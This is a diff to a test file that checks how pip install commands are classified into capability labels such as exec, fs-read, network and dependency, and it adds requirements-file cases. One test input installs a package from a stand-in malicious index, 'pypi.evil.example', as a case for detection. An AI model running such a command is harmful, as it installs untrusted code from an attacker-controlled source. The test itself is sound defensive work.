@@ -16,7 +16,9 @@ describe("packages", () => {
     ["pip install requests==2", "!exec = | !dependency requests@2"],
     ["pip3 install -U 'numpy>=1.20' pandas", "!exec = | !dependency numpy@>=1.20 | !dependency pandas"],
     ["pip install 'httpx[http2]==0.27.0'", "!exec pip install httpx[http2]==0.27.0 | !dependency httpx@0.27.0"],
-    ["pip install -r requirements.txt", "!exec = | fs-read requirements.txt | !dependency *"],
+    ["pip install -r requirements.txt", "!exec = | fs-read requirements.txt | !dependency -r requirements.txt"],
+    ["pip install -r ./dev.txt -c pins.txt", "!exec = | fs-read dev.txt | !dependency -r dev.txt | fs-read pins.txt"],
+    ["pip install -r ?", "!exec pip install -r * | !fs-read * | !dependency *"],
     [
       "pip install --index-url https://pypi.evil.example/simple x",
       "!exec = | !network pypi.evil.example | !dependency x",
